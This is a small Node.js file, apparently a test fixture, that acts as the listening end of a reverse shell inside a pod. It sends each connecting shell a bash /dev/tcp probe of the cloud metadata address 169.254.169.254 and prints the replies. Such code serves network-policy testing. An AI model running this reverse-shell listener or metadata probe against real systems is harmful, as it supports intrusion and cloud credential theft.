/** In a pod: the far end of a reverse shell. It gives its orders and prints what it hears. */
import { createServer } from 'node:net'

// EPOCHREALTIME is the shell's own clock: no process is started for it. Nobody may answer at the address: a second is enough
// for the connection to be asked for.
const orders = `echo "asked at $EPOCHREALTIME"; timeout 1 bash -c '</dev/tcp/169.254.169.254/80'; exit\n`

const server = createServer((socket) => {
  socket.on('error', () => {})
  socket.pipe(process.stdout, { end: false })
  socket.write(orders)
})
server.listen(4444)
process.on('SIGTERM', () => process.exit(0))
